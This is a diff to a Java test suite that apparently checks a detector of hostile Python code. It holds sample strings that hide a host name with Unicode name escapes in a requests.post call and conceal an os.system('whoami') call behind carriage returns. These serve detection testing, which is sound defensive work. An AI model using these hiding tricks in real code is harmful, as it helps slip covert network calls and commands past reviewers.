@@ -77,6 +77,15 @@ class PythonHostileTest {
     }
 
     @Test
+    void namesOfCharactersAreReadWhoeverKnowsThem() {
+        var code =
+                "import requests\nESC = '\\N{ESC}'\n"
+                        + "requests.post('https://\\N{LATIN SMALL LETTER A}.club', json=ESC)\n";
+
+        assertThat(PythonSample.of(code).contacted()).containsExactly("a.club");
+    }
+
+    @Test
     void carriageReturnsHideNoCode() {
         var sample = PythonSample.of("# nothing\rimport os\ros.system('whoami')\r\n");
 
